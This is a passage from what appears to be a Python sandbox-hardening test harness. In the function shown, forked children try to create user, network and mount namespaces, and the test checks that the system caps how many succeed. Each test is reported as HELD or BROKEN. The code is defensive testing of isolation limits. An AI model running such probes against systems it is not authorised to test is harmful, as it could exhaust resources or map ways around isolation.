        if pid == 0:
            good = libc.unshare(NEWUSER | NEWNET | NEWNS) == 0
            os.write(theirs, b"1" if good else b"0")
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for _ in children:
        made += os.read(ours, 1) == b"1"
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return 0 < made <= 64, f"{made} of {len(children)} were made"


if __name__ == "__main__":
    try:
        held, said = globals()[sys.argv[1]](*sys.argv[2:])
    except Exception as error:
        print(f"BROKEN the attack itself failed: {error!r}")
    else:
        print({True: "HELD", False: "BROKEN", None: "SKIPPED"}[held], said)
